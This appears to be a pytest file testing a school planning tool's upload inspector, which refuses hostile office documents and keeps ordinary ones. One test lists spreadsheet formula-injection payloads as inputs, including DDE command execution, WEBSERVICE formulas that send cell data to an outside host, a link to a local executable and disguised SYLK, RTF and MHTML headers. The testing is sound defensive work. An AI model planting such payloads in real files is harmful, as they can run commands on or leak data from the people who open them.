"""What does something by itself, or opens more than a web page, is found by its own rule."""

import pytest

from lp_planner.interchange import texts
from lp_planner.interchange.bad_file import BadFile
from lp_planner.interchange.inspecting import looked_through
from tests.interchange.honest import HONEST
from tests.interchange.hostile import Made, ready
from tests.interchange.hostile_office import OFFICE


def refused(data: bytes, name: str) -> str:
    with pytest.raises(BadFile) as why:
        looked_through(data, name)
    return why.value.message


@pytest.mark.parametrize(("data", "says"), OFFICE.values(), ids=OFFICE)
def test_an_office_file_is_refused_by_the_rule_for_what_it_does(data: Made, says: str) -> None:
    assert refused(ready(data), "a") == says


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('=WEBSERVICE("https://example.org/"&A1)', texts.FORMULA),
        ('Name,Said\nA,"=HYPERLINK(""file:///c:/a.exe"",""x"")"', texts.FORMULA),
        ("Name;Said\nA;=cmd|'/c calc'!A0", texts.FORMULA),
        ("Name\tSaid\nA\t+cmd|'/c calc'!A0", texts.FORMULA),
        ("a,@SUM(1)*WEBSERVICE(A1)", texts.FORMULA),
        ('a,-1+WEBSERVICE("x")', texts.FORMULA),
        ('a,"=\nWEBSERVICE(A1)"', texts.FORMULA),
        ("='a'," * texts.MOST_LETTERS, texts.MANY_FORMULAS),
        ("ID;PWXL;N;E\nC;Y1;X1;K0;ECALL()", texts.IN_DISGUISE),
        ("  {\\rtf1 \\object}", texts.IN_DISGUISE),
        ("MIME-Version: 1.0\nContent-Type: multipart/related", texts.IN_DISGUISE),
    ],
)
def test_text_that_an_office_program_takes_for_more_is_refused(text: str, says: str) -> None:
    assert refused(text.encode(), "a.csv") == says


@pytest.mark.parametrize(("data", "name"), HONEST.values(), ids=HONEST)
def test_what_schools_make_is_kept(data: Made, name: str) -> None:
    data = ready(data)
    kept = looked_through(data, name)
    assert kept.file_name == name
    if not kept.media_type.startswith("image/"):
        assert kept.data == data
